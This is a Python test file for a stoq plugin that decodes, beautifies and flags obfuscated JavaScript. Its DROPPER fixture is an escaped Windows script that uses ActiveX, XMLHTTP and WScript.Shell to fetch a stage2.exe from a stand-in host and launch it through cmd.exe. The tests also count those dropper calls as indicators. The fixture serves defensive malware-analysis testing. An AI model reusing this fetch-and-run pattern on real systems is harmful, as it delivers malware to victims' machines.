"""Tests for the ``javascript`` plugin: the stoq conformance suite, then its own behaviour.

Scripts are written here the way droppers write them, then obfuscated with real tools: the
standard library's URL quoting (a bookmarklet-style packing jsbeautifier reverses) and
Python's own escapes for ``\\x``/``\\u`` literals.
"""

from __future__ import annotations

import time
import urllib.parse

from stoq.testing import WorkerConformance, check_hostile_corpus, run_plugin, walk

URL = "https://downloads.example.org/stage2.exe"
DROPPER = (
    "var shell = new ActiveXObject('WScript.Shell');\n"
    "var http = new ActiveXObject('MSXML2.XMLHTTP');\n"
    "var url = '" + "".join(f"\\x{ord(c):02x}" for c in URL) + "';\n"
    "var cmd = String.fromCharCode(" + ",".join(str(ord(c)) for c in "cmd.exe") + ");\n"
    "http.open('GET', url, false); http.send();\n"
    "var stream = new ActiveXObject('ADODB.Stream');\n"
    "shell.Run(cmd + ' /c start %TEMP%\\\\stage2.exe');\n"
    "eval(unescape('%61%6c%65%72%74%28%22%64%6f%6e%65%22%29'));\n"
)


class TestJavascriptPluginConformance(WorkerConformance):
    """What every stoq plugin must do, checked on edge cases and on the samples below."""

    plugin_name = "javascript"
    samples = (DROPPER.encode(), urllib.parse.quote(DROPPER).encode())


def test_escaped_strings_and_char_codes_are_decoded() -> None:
    """The hex-escaped URL, the unescape() argument and the fromCharCode text, in order."""
    response = run_plugin("javascript", "scan", DROPPER.encode())
    assert response.results["decoded_strings"] == [URL, 'alert("done")', "cmd.exe"]


def test_dropper_calls_are_counted_as_indicators() -> None:
    """ActiveX, WScript.Shell, XMLHTTP, ADODB.Stream, eval and unescape are each reported."""
    indicators = run_plugin("javascript", "scan", DROPPER.encode()).results["indicators"]
    assert indicators == {
        "eval": 1,
        "unescape": 1,
        "from_char_code": 1,
        "activex": 3,
        "wscript_shell": 1,
        "xmlhttp": 1,
        "adodb_stream": 1,
    }


def test_minified_source_is_beautified_with_escapes_undone() -> None:
    """One line becomes one statement per line, and ``\\x`` escapes read as text."""
    minified = DROPPER.replace("\n", "").encode()
    beautified = run_plugin("javascript", "scan", minified).results["beautified"]
    assert beautified.count("\n") >= DROPPER.count("\n") - 1
    assert f"var url = '{URL}';" in beautified


def test_url_encoded_script_is_unpacked_and_extracted() -> None:
    """A fully %-encoded script is unpacked, reported, analysed, and extracted as a child."""
    response = run_plugin("javascript", "scan", urllib.parse.quote(DROPPER).encode())
    assert response.results["unpacked_by"] == ["urlencode"]
    assert response.results["indicators"]["activex"] == 3
    [child] = response.extracted
    assert child.content == DROPPER.encode()
    assert child.payload_meta.extra_data == {"unpacked_by": ["urlencode"]}


def test_unpacked_child_is_not_unpacked_again(stoq_factory) -> None:
    """Through the engine the child's own scan unpacks nothing: two payloads, no loop."""
    stoq = stoq_factory(always_dispatch=["javascript"])
    response = stoq.scan(urllib.parse.quote(DROPPER).encode())
    assert response.errors == []
    results = list(walk(response))
    assert [depth for depth, _ in results] == [0, 1]
    assert results[1][1].workers[0]["javascript"]["unpacked_by"] == []


def test_large_script_is_not_beautified_but_still_flagged() -> None:
    """Past ``max_beautify`` the result says so; indicators are still counted."""
    response = run_plugin("javascript", "scan", DROPPER.encode(), plugin_opts={"max_beautify": 100})
    assert response.results["beautified"] is None
    assert response.results["skipped"] == "larger than max_beautify: not unpacked or beautified"
    assert response.results["indicators"]["eval"] == 1


def test_source_and_strings_are_bounded() -> None:
    """``max_source_chars``, ``max_strings`` and ``max_string_chars`` cap what is reported."""
    many = "".join(f"var s{i} = '\\x41\\x42{i}';\n" for i in range(50)).encode()
    response = run_plugin(
        "javascript",
        "scan",
        many,
        plugin_opts={"max_source_chars": 100, "max_strings": 10, "max_string_chars": 3},
    )
    results = response.results
    assert len(results["beautified"]) == 100 and results["beautified_truncated"] is True
    assert results["decoded_strings"] == ["AB0", "AB1", "AB2", "AB3", "AB4"] + ["AB5"] + [
        "AB6",
        "AB7",
        "AB8",
        "AB9",
    ]
    assert results["strings_truncated"] is True


def test_truncated_and_broken_scripts_do_not_fail() -> None:
    """A script cut mid-string and one with unbalanced braces are still reported on."""
    cases = [
        (DROPPER[: len(DROPPER) // 2], "activex"),
        ("function x() { eval('" + "{" * 5000, "eval"),
    ]
    for broken, indicator in cases:
        response = run_plugin("javascript", "scan", broken.encode())
        assert response.errors == []
        assert response.results["indicators"][indicator] >= 1


def test_huge_fromcharcode_and_many_literals_stay_fast() -> None:
    """Thousands of escaped literals and a giant fromCharCode finish within seconds."""
    hostile = ("'\\x41'," * 20000 + "String.fromCharCode(" + "65," * 100000 + "65)").encode()
    started = time.monotonic()
    response = run_plugin("javascript", "scan", hostile, plugin_opts={"max_beautify": 0})
    assert time.monotonic() - started < 10
    assert len(response.results["decoded_strings"]) == 100


def test_hostile_corpus() -> None:
    """Seeded hostile variants of real scripts end in a result or an Error, in budget and memory."""
    check_hostile_corpus("javascript", [DROPPER.encode()])
